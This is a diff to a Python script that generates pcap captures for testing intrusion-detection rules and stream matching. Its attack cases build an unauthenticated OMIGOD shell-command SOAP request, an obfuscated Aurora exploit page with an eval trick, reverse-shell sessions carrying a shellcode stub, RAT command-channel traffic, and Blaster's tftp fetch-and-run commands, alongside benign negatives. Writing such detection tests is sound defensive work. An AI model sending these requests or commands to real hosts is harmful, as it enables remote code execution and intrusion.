@@ -2,7 +2,8 @@
 """Seeded captures for the pcap cases of Safeguard's own rules (rules/safeguard.rules).
 
 One capture per scenario: an attack a rule must catch, or benign traffic of the same
-family that must not alert. Every capture is a pure function of its name and the seed,
+family that must not alert; and the stream-NAME scenarios (match-stream-NAME/ case folders,
+with their own test.rules) for stream-mode matching. Every capture is a pure function of its name and the seed,
 written with Debian's python (/usr/bin/python3, which has scapy). Each scenario becomes a
 case folder test/pcap/cases/rule-NAME/ with input.pcap and case.yaml (what it must alert);
 test/pcap/run_cases.py replays them.
@@ -781,6 +782,234 @@ def gen_shellshock_negative(cap):
         "GET", "/search?q=bash+function+()+{", "10.1.1.20", ["User-Agent: Mozilla/5.0"]), http_response())
 
 
+
+# ---------------------------------------------------------------------------
+# OMIGOD (OMI on Azure Linux VMs)
+# ---------------------------------------------------------------------------
+
+OMI_HOST = "10.1.1.30"
+SCX = "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"
+
+
+def omi_envelope(method, inner, action=None):
+    action = action or f"{SCX}/{method}"
+    return (f'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
+            f'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
+            f'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd"><s:Header>'
+            f'<a:To>HTTP://{OMI_HOST}:5985/wsman/</a:To><w:ResourceURI s:mustUnderstand="true">{SCX}</w:ResourceURI>'
+            f'<a:Action>{action}</a:Action><w:MaxEnvelopeSize s:mustUnderstand="true">102400</w:MaxEnvelopeSize>'
+            f'<w:SelectorSet><w:Selector Name="__cimnamespace">root/scx</w:Selector></w:SelectorSet></s:Header>'
+            f'<s:Body><p:{method}_INPUT xmlns:p="{SCX}">{inner}</p:{method}_INPUT></s:Body></s:Envelope>').encode()
+
+
+def omi_post(body, auth=None):
+    headers = ["Content-Type: application/soap+xml;charset=UTF-8", "User-Agent: python-requests/2.25.1"]
+    if auth:
+        headers.insert(0, f"Authorization: {auth}")
+    return http_request("POST", "/wsman", f"{OMI_HOST}:5985", headers, body)
+
+
+OMI_ROOT_REPLY = http_response(body=(f'<SOAP-ENV:Envelope><SOAP-ENV:Body><p:SCX_OperatingSystem_OUTPUT xmlns:p="{SCX}">'
+                                     f'<p:ReturnValue>TRUE</p:ReturnValue><p:StdOut>uid=0(root) gid=0(root) groups=0(root)'
+                                     f'</p:StdOut></p:SCX_OperatingSystem_OUTPUT></SOAP-ENV:Body></SOAP-ENV:Envelope>').encode(),
+                               ctype="application/soap+xml;charset=UTF-8")
+
+
+def gen_omigod(cap):
+    attacker = "192.0.2.160"
+    # The public PoCs: headers in one segment, the envelope in the next.
+    req = omi_post(omi_envelope("ExecuteShellCommand", "<p:command>id</p:command><p:timeout>0</p:timeout>"))
+    head = req.index(b"\r\n\r\n") + 4
+    t = Tcp(cap, attacker, OMI_HOST, 47342, 5985)
+    t.client(req[:head])
+    t.client(req[head:])
+    t.server(OMI_ROOT_REPLY)
+    t.close()
+    # ExecuteScript with a base64 script, the whole request in one segment.
+    exchange(cap, attacker, OMI_HOST, 47344, 5985, omi_post(omi_envelope(
+        "ExecuteScript", "<p:Script>aWQ7IHVuYW1lIC1h</p:Script><p:Arguments></p:Arguments><p:timeout>0</p:timeout>"
+                         "<p:b64encoded>true</p:b64encoded>")), OMI_ROOT_REPLY)
+
+
+def gen_omigod_negative(cap):
+    admin = "10.1.1.62"
+    # The same call with credentials (Basic and Negotiate), as Azure's own agents make it.
+    exchange(cap, admin, OMI_HOST, 47400, 5985, omi_post(
+        omi_envelope("ExecuteShellCommand", "<p:command>uptime</p:command><p:timeout>0</p:timeout>"),
+        auth="Basic b21pYWRtaW46UzNjcmV0IQ=="), OMI_ROOT_REPLY)
+    exchange(cap, admin, OMI_HOST, 47402, 5985, omi_post(
+        omi_envelope("ExecuteScript", "<p:Script>dXB0aW1l</p:Script><p:timeout>0</p:timeout>"),
+        auth="Negotiate TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw=="), OMI_ROOT_REPLY)
+    # Unauthenticated, but only reading the OS class (Enumerate): no command runs.
+    exchange(cap, "192.0.2.161", OMI_HOST, 47404, 5985, omi_post(omi_envelope(
+        "Enumerate", "", action="http://schemas.xmlsoap.org/ws/2004/09/enumeration/Enumerate")),
+        http_response("401 Unauthorized", body=b""))
+
+
+# ---------------------------------------------------------------------------
+# Client-side exploits: the Aurora page (CVE-2010-0249)
+# ---------------------------------------------------------------------------
+
+EXPLOIT_SERVER = "192.0.2.170"
+BROWSER = "10.1.2.40"
+IE6_HEADERS = ["Accept: image/gif, image/x-xbitmap, image/jpeg, image/pjpeg, */*", "Accept-Language: en-us",
+               "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", "Connection: Keep-Alive"]
+
+
+def rand_name(rng, n):
+    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n))
+
+
+def gen_aurora(cap):
+    rng = cap.rng
+    blob, xored, key, out = (rand_name(rng, rng.randint(3, 24)) for _ in range(4))
+    page = ("<html>\n<head>\n<script>\n"
+            f"\tvar {blob} = '{hexstr(rng, 3000)}';\n"
+            f"\tvar {xored} = '';\n"
+            f"\tfor (i = 0;i<{blob}.length;i+=2) {{\n"
+            f"\t\t{xored} += String.fromCharCode(parseInt({blob}.substring(i, i+2), 16));\n\t}}\n"
+            f"\tvar {key} = location.search.substring(1);\n"
+            f"\tvar {out} = '';\n"
+            f"\tfor (i=0;i<{xored}.length;i++) {{\n"
+            f"\t\t{out} += String.fromCharCode({xored}.charCodeAt(i) ^ {key}.charCodeAt(i%{key}.length));\n\t}}\n"
+            f"\twindow[\"eVaKl\".replace(/[A-Z]/g,\"\")]({out});\n"
+            "</script>\n</head>\n<body><span><iframe src=\"/infoQx.gif\" /></span></body></html>\n").encode()
+    t = Tcp(cap, BROWSER, EXPLOIT_SERVER, 1031, 80, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
+            client_inbound=False)
+    t.client(http_request("GET", "/info", EXPLOIT_SERVER, IE6_HEADERS))
+    t.server(b"HTTP/1.1 302 Moved\r\nLocation: /info?rFfWELUjLJHpP\r\nContent-Length: 0\r\n\r\n")
+    t.client(http_request("GET", "/info?rFfWELUjLJHpP", EXPLOIT_SERVER, IE6_HEADERS))
+    t.server(http_response(body=page))
+    t.client(http_request("GET", "/infoQx.gif", EXPLOIT_SERVER, IE6_HEADERS))
+    t.server(http_response(body=b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
+                                b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", ctype="image/gif"))
+    t.close()
+
+
+def gen_aurora_negative(cap):
+    # Ordinary scripts with the same building blocks: a query-string parser, a character
+    # decoder, a replace() of capitals; none feeds eval through window[...].
+    js = (b"var params = location.search.substring(1).split('&');\n"
+          b"var code = ''; for (i=0;i<raw.length;i++) { code += String.fromCharCode(raw.charCodeAt(i) ^ 32); }\n"
+          b"var slug = title.replace(/[A-Z]/g,\"\").toLowerCase();\n"
+          b"window[\"onload\"] = function () { render(params, code, slug); };\n")
+    t = Tcp(cap, "10.1.2.41", "198.51.100.60", 50500, 80, client_inbound=False)
+    t.client(http_request("GET", "/static/app.js", "cdn.example.net", ["User-Agent: Mozilla/5.0"]))
+    t.server(http_response(body=js, ctype="application/javascript"))
+    t.close()
+
+
+# ---------------------------------------------------------------------------
+# Trojans: reverse shells and RAT command channels
+# ---------------------------------------------------------------------------
+
+XP_BANNER = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n"
+
+
+def gen_reverse_shell(cap):
+    # The Aurora victim calls the attacker back on 4321: the stage comes in (a length,
+    # then the shellcode), cmd.exe's banner goes out in two segments.
+    t = Tcp(cap, BROWSER, EXPLOIT_SERVER, 1032, 4321, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
+            client_inbound=False)
+    t.server(b"\xf0\x00\x00\x00")
+    t.server(bytes.fromhex("fce8890000006089e531d2648b52308b520c8b52148b72280fb74a2631ff31c0ac3c617c022c20")
+             + bytes(cap.rng.getrandbits(8) for _ in range(200)))
+    t.client(XP_BANNER[:39])
+    t.client(XP_BANNER[39:] + b"C:\\Documents and Settings\\Administrator\\Desktop>")
+    t.server(b"dir\n")
+    t.client(b"dir\n Volume in drive C has no label.\r\n\r\nC:\\Documents and Settings\\Administrator\\Desktop>")
+    t.close()
+    # A Windows 10 cmd.exe piped to a socket (netcat -e cmd.exe) on 443.
+    t = Tcp(cap, "10.1.2.42", "192.0.2.171", 50110, 443, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
+            client_inbound=False)
+    t.client(b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n"
+             b"C:\\Users\\build>")
+    t.server(b"whoami\r\n")
+    t.client(b"whoami\r\nci\\build\r\n\r\nC:\\Users\\build>")
+    t.close()
+
+
+RAT_HOST = "10.1.2.50"
+RAT_CONTROLLER = "192.0.2.180"
+
+
+def gen_rat_anabilgi(cap):
+    t = Tcp(cap, RAT_HOST, RAT_CONTROLLER, 6641, 4433, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
+            client_inbound=False)
+    t.server(b"ANABILGI|556\r\n")
+    t.client(b"ANABILGI|10.1.2.50|US|rat1|NO|Administrator / WS-0042|Windows XP Service Pack 3|"
+             b"Intel(R) Core(TM)2 Duo CPU     T9600  @ 2.80GHz|511 MB|1.2|7/18/2010|\n")
+    for _ in range(3):
+        t.client(b"BAGLIMI?\n")
+        cap.pause(1.0)
+    t.server(b"CAPSCREEN60\r\n")
+    # The controller opens a data connection for the screenshot.
+    u = Tcp(cap, RAT_HOST, RAT_CONTROLLER, 6643, 4433, client_ttl=128, client_options=WINDOWS_SYN_OPTIONS,
+            client_inbound=False)
+    u.server(b"ANABILGI|12\r\n")
+    u.client(b"SH|556\n")
+    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(
+        cap.rng.getrandbits(8) for _ in range(3000)) + b"\xff\xd9"
+    u.client(b"CAPSCREEN|C:\\WINDOWS\\jpgevhook.dat|%d\n" % len(jpeg) + jpeg)
+    u.close()
+    t.close()
+
+
+def gen_trojan_negative(cap):
+    # A telnet server on Windows greets its client with cmd.exe's banner: to the client.
+    t = Tcp(cap, "10.1.2.61", "10.1.2.43", 50200, 23, client_inbound=False, server_ttl=128)
+    t.server(XP_BANNER + b"C:\\>")
+    t.client(b"dir\r\n")
+    t.close()
+    # A help-desk page quoting the banner, and an analyst's write-up that names the RAT's
+    # commands: text inside an HTTP body, not at the start of a segment.
+    exchange(cap, "10.1.2.62", "198.51.100.61", 50202, 80, http_request(
+        "GET", "/kb/cmd-banner", "help.example.org", ["User-Agent: Mozilla/5.0"]), http_response(
+        body=b"<pre>Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.</pre>\n"
+             b"<p>Seen on 4433: ANABILGI|10.0.0.5|US|rat1|...|Windows XP| and CAPSCREEN|C:\\x.dat|9\n</p>\n"),
+        client_inbound=False)
+    exchange(cap, "10.1.2.63", "198.51.100.62", 50204, 8080, http_request(
+        "POST", "/notes", "wiki.example.org", ["Content-Type: text/plain"],
+        b"ANABILGI|10.0.0.5|US|rat1|NO|x|Windows XP|\nCAPSCREEN|C:\\x.dat|9\n\xff\xd8\xff"), http_response(),
+        client_inbound=False)
+
+
+# ---------------------------------------------------------------------------
+# Worms: Blaster (MS03-026)
+# ---------------------------------------------------------------------------
+
+def gen_blaster(cap):
+    infected, victim = "192.0.2.190", "10.1.2.60"
+    # A whole session: the bind shell's prompt, the TFTP fetch, start, the bare name.
+    t = Tcp(cap, infected, victim, 1793, 4444, client_ttl=113, server_ttl=128, client_options=WINDOWS_SYN_OPTIONS)
+    t.server(b"Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\n"
+             b"C:\\WINNT\\system32>")
+    for cmd in (b"tftp -i 192.0.2.190 GET msblast.exe\n", b"start msblast.exe\n", b"msblast.exe\n"):
+        t.client(cmd)
+        t.server(cmd + b"\r\nC:\\WINNT\\system32>")
+        cap.pause(1.5)
+    t.close()
+    # Picked up mid-connection (no handshake): each command is matched in its packet.
+    t = Tcp(cap, infected, "10.1.2.61", 1794, 4444, client_ttl=113, server_ttl=128, handshake=False)
+    t.server(b"\r\nC:\\WINNT\\system32>")
+    t.client(b"start penis32.exe\n")
+    t.client(b"penis32.exe\n")
+
+
+def gen_blaster_negative(cap):
+    # A removal guide downloaded over HTTP, and an ordinary service on 4444 whose client
+    # starts programs and deletes the worm.
+    exchange(cap, "10.1.2.64", "198.51.100.63", 50300, 80, http_request(
+        "GET", "/tools/remove-msblast.exe", "av.example.com", ["User-Agent: Mozilla/5.0"]),
+        http_response(body=b"start msblast.exe\nmsblast.exe\n", ctype="text/plain"), client_inbound=False)
+    t = Tcp(cap, "10.1.2.65", "10.1.2.66", 50302, 4444, client_inbound=False)
+    t.server(b"C:\\tools>")
+    t.client(b"start notepad.exe\n")
+    t.client(b"del C:\\WINDOWS\\system32\\msblast.exe\n")
+    t.client(b"msblast.exe.bak\n")
+    t.close()
+
+
 # ---------------------------------------------------------------------------
 # Scenarios: name -> (generator, description, expected alerts as [(sid, count)])
 # ---------------------------------------------------------------------------
@@ -818,7 +1047,147 @@ SCENARIOS = {
     "scan-negative": (gen_scan_negative, "Linux, Windows and embedded (window 1024, TTL 64) clients; pages and searches that name the tools: no alert.", []),
     "shellshock": (gen_shellshock, "'() {' in a User-Agent and in a Cookie to CGI scripts on port 80.", [(9100601, 2)]),
     "shellshock-negative": (gen_shellshock_negative, "JavaScript with function () { ... }; and a search for 'bash function () {': no alert.", []),
+    "omigod": (gen_omigod, "Unauthenticated OMI SOAP calls to 5985: ExecuteShellCommand (headers and envelope in two segments, the reply shows uid=0) and ExecuteScript (one segment).", [(9100602, 2)]),
+    "omigod-negative": (gen_omigod_negative, "The same OMI calls with Basic and Negotiate Authorization, and an unauthenticated Enumerate that runs nothing: no alert.", []),
+    "aurora": (gen_aurora, "An IE6 browser is redirected to the Aurora page: hex blob, XOR with location.search, window[\"eVaKl\".replace(/[A-Z]/g,\"\")]; one alert on the page.", [(9100701, 1)]),
+    "aurora-negative": (gen_aurora_negative, "A script that parses location.search, decodes characters with XOR and strips capitals, without the eval trick: no alert.", []),
+    "reverse-shell": (gen_reverse_shell, "Two reverse shells: the Aurora victim's Windows XP cmd.exe on 4321 (banner split over two segments) and a Windows 10 cmd.exe on 443.", [(9100801, 2)]),
+    "rat-anabilgi": (gen_rat_anabilgi, "The RAT on 4433: ANABILGI check-in, BAGLIMI? keep-alives, then a CAPSCREEN upload with a JPEG on a second connection.", [(9100802, 1), (9100803, 1)]),
+    "trojan-negative": (gen_trojan_negative, "A Windows telnet server's banner to its client, pages and notes that quote the cmd.exe banner and the RAT's commands: no alert.", []),
+    "blaster": (gen_blaster, "Blaster on the 4444 bind shell: a whole session (tftp GET, start, name: one alert on the stream) and a connection picked up mid-stream with variant B's start and name (one alert each).", [(9100901, 3)]),
+    "blaster-negative": (gen_blaster_negative, "A removal tool download that quotes the commands, and a 4444 session that starts notepad and deletes msblast.exe: no alert.", []),
 }
+
+
+# ---------------------------------------------------------------------------
+# Stream-mode matching (test/pcap/cases/match-stream-*): contents split across
+# TCP segments, chunks, retransmissions, reordering, closes. Each capture
+# comes with its own rules; the counts are Suricata 7.0.10's.
+# ---------------------------------------------------------------------------
+
+STREAM_CLIENT, STREAM_SERVER = "10.1.9.10", "203.0.113.9"
+STREAM_RULES = """\
+alert tcp any any -> any any (msg:"stream: mining.subscribe"; flow:established,to_server; content:"mining.subscribe"; sid:1;)
+alert tcp any any -> any any (msg:"packet only: mining.subscribe"; flow:established,to_server,no_stream; content:"mining.subscribe"; sid:2;)
+alert tcp any any -> any any (msg:"packet and stream: request at the start"; flow:established,to_server; content:"POST "; depth:5; sid:3;)
+alert tcp any any -> any any (msg:"stream: split upload marker"; flow:established,to_server; content:"X-Needle-In-Stream"; nocase; sid:4;)
+alert tcp any any -> any any (msg:"stream: job from the server"; flow:established,to_client; content:"mining.notify"; pcre:"/mining\\.notify\\x22,\\x22params\\x22:\\[\\x22[0-9a-f]{8}/"; sid:5;)
+"""
+
+
+def stratum_subscribe():
+    return jline('{"id":1,"method":"mining.subscribe","params":["cgminer/4.10.0"]}')
+
+
+def gen_stream_split(cap):
+    # The request in two segments, split inside the content; the client closes.
+    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51000, 3333, client_inbound=False)
+    req = stratum_subscribe()
+    cut = req.index(b"subscribe")
+    t.segment(True, "PA", req[:cut])
+    t.segment(True, "PA", req[cut:])
+    t.segment(False, "A")
+    t.server(jline('{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"]],"08000002",4],"error":null}'))
+    t.close()
+
+
+def gen_stream_chunks(cap):
+    # An upload of 12 KiB: the marker is split across the 3rd and 4th
+    # segments; chunks of ACKed bytes are inspected as the ACKs come (every
+    # second segment), and the marker lies inside the second chunk.
+    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51002, 8080, client_inbound=False)
+    head = b"POST /upload HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: 12000\r\n\r\n"
+    body = bytearray(cap.rng.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(12000))
+    marker = b"x-needle-in-stream"
+    at = MSS * 3 - len(head) - 7  # the marker crosses the 3rd segment boundary
+    body[at:at + len(marker)] = marker
+    data = head + bytes(body)
+    for i in range(0, len(data), MSS):
+        t.segment(True, "PA", data[i:i + MSS])
+        if (i // MSS) % 2 == 1:
+            t.segment(False, "A")
+    t.segment(False, "A")
+    t.server(http_response())
+    t.close()
+
+
+def gen_stream_retransmit(cap):
+    # The request is retransmitted whole (its ACK was lost), then the server
+    # closes first.
+    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51004, 3333, client_inbound=False)
+    req = stratum_subscribe()
+    t.segment(True, "PA", req)
+    t.seq[True] -= len(req)
+    t.segment(True, "PA", req)
+    t.segment(False, "A")
+    t.server(jline('{"id":1,"result":true,"error":null}'))
+    t.segment(False, "FA")
+    t.seq[False] += 1
+    t.segment(True, "FA")
+    t.seq[True] += 1
+    t.segment(False, "A")
+
+
+def gen_stream_out_of_order(cap):
+    # The second half of the request arrives before the first.
+    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51006, 3333, client_inbound=False)
+    req = stratum_subscribe()
+    cut = req.index(b".subscribe")
+    start = t.seq[True]
+    t.seq[True] = (start + cut) & 0xFFFFFFFF
+    t.segment(True, "PA", req[cut:])
+    t.seq[True] = start
+    t.segment(True, "PA", req[:cut])
+    t.seq[True] = (start + len(req)) & 0xFFFFFFFF
+    t.segment(False, "A")
+    t.close()
+
+
+def gen_stream_server_push(cap):
+    # A pool pushes jobs in small segments, each job split in two; the
+    # connection is never closed (the capture ends).
+    t = Tcp(cap, STREAM_CLIENT, STREAM_SERVER, 51008, 3333, client_inbound=False)
+    t.client(stratum_subscribe())
+    for job in range(3):
+        push = jline('{"id":null,"method":"mining.notify","params":["%08x","%s",true]}'
+                     % (0x4a00 + job, hexstr(cap.rng, 32)))
+        cut = push.index(b"notify") + 3
+        t.segment(False, "PA", push[:cut])
+        t.segment(False, "PA", push[cut:])
+        t.segment(True, "A")
+
+
+STREAM_SCENARIOS = {
+    "split": (gen_stream_split, "A Stratum subscribe split inside the content across two segments: the stream rule alerts once, on the client's FIN (Suricata inspects at once after the initiator's FIN); the packet-only rule never.", [(1, 1)]),
+    "chunks": (gen_stream_chunks, "A 12 KiB upload with a marker split across a segment boundary: found in an ACKed chunk; the depth-5 rule alerts on the first packet and again on the first chunk, which starts with the request too.", [(3, 2), (4, 1)]),
+    "retransmit": (gen_stream_retransmit, "A request sent twice (retransmission), the server closes first: the stream rule alerts once; the packet-only rule on both copies.", [(1, 1), (2, 2)]),
+    "out-of-order": (gen_stream_out_of_order, "The second half of a request arrives first: the halves are put in order and the content found; neither half alone holds it for the packet-only rule.", [(1, 1)]),
+    "server-push": (gen_stream_server_push, "A pool pushes three mining.notify jobs, each split in two segments, and the capture ends with the connection open: the stream holds them until the flow ends. The subscribe came in one segment: both client rules.", [(1, 1), (2, 1), (5, 1)]),
+}
+
+
+def stream_case_yaml(name, description, expected):
+    folder = f"test/pcap/cases/match-stream-{name}"
+    lines = [f"# Written by scripts/gen-rule-pcaps.py (stream scenario {name}); regenerate, do not edit.",
+             "# The counts are those of Suricata 7.0.10 (scripts/diff-suricata.sh) on this capture.",
+             "description: >"]
+    words, line = description.split(), "  "
+    for w in words:
+        if len(line) + len(w) > 90:
+            lines.append(line.rstrip())
+            line = "  "
+        line += w + " "
+    lines.append(line.rstrip())
+    lines += [f"inputs: [{folder}/input.pcap]",
+              f'args: [--rules, "{{root}}/{folder}/test.rules"]',
+              "workers: [1, 2]",
+              "expect:"]
+    if expected:
+        lines.append("  alerts:")
+        lines += [f"    - {{sid: {sid}, count: {count}}}" for sid, count in expected]
+    else:
+        lines.append("  alerts: []")
+    return "\n".join(lines) + "\n"
 
 
 def case_yaml(name, description, expected):
@@ -844,14 +1213,27 @@ def case_yaml(name, description, expected):
 
 
 def write_scenario(name, out_root):
-    gen, description, expected = SCENARIOS[name]
+    """Scenario `name` (rule scenario, or stream-NAME) into its case folder."""
+    if name.startswith("stream-"):
+        gen, description, expected = STREAM_SCENARIOS[name[len("stream-"):]]
+        folder = out_root / f"match-{name}"
+        text = stream_case_yaml(name[len("stream-"):], description, expected)
+    else:
+        gen, description, expected = SCENARIOS[name]
+        folder = out_root / f"rule-{name}"
+        text = case_yaml(name, description, expected)
     cap = Capture(name)
     gen(cap)
-    folder = out_root / f"rule-{name}"
     folder.mkdir(parents=True, exist_ok=True)
     wrpcap(str(folder / "input.pcap"), cap.packets, linktype=1)
-    (folder / "case.yaml").write_text(case_yaml(name, description, expected))
+    (folder / "case.yaml").write_text(text)
+    if name.startswith("stream-"):
+        (folder / "test.rules").write_text(STREAM_RULES)
     return folder
+
+
+def all_scenarios():
+    return list(SCENARIOS) + [f"stream-{n}" for n in STREAM_SCENARIOS]
 
 
 def main():
@@ -861,13 +1243,14 @@ def main():
     ap.add_argument("--check", action="store_true", help="compare a fresh generation with --out")
     ap.add_argument("--list", action="store_true", help="list the scenarios")
     args = ap.parse_args()
-    names = args.names or list(SCENARIOS)
-    unknown = [n for n in names if n not in SCENARIOS]
+    names = args.names or all_scenarios()
+    unknown = [n for n in names if n not in all_scenarios()]
     if unknown:
         ap.error(f"unknown scenario(s): {', '.join(unknown)}; --list shows them")
     if args.list:
         for n in names:
-            print(f"{n:28} {SCENARIOS[n][1]}")
+            scenario = STREAM_SCENARIOS[n[len("stream-"):]] if n.startswith("stream-") else SCENARIOS[n]
+            print(f"{n:28} {scenario[1]}")
         return 0
     if args.check:
         differ = 0
@@ -875,7 +1258,7 @@ def main():
             for n in names:
                 fresh = write_scenario(n, Path(tmp))
                 for f in ("input.pcap", "case.yaml"):
-                    have = args.out / f"rule-{n}" / f
+                    have = args.out / fresh.name / f
                     if not have.exists() or not filecmp.cmp(fresh / f, have, shallow=False):
                         print(f"differs: {have.relative_to(ROOT) if have.is_relative_to(ROOT) else have}")
                         differ += 1
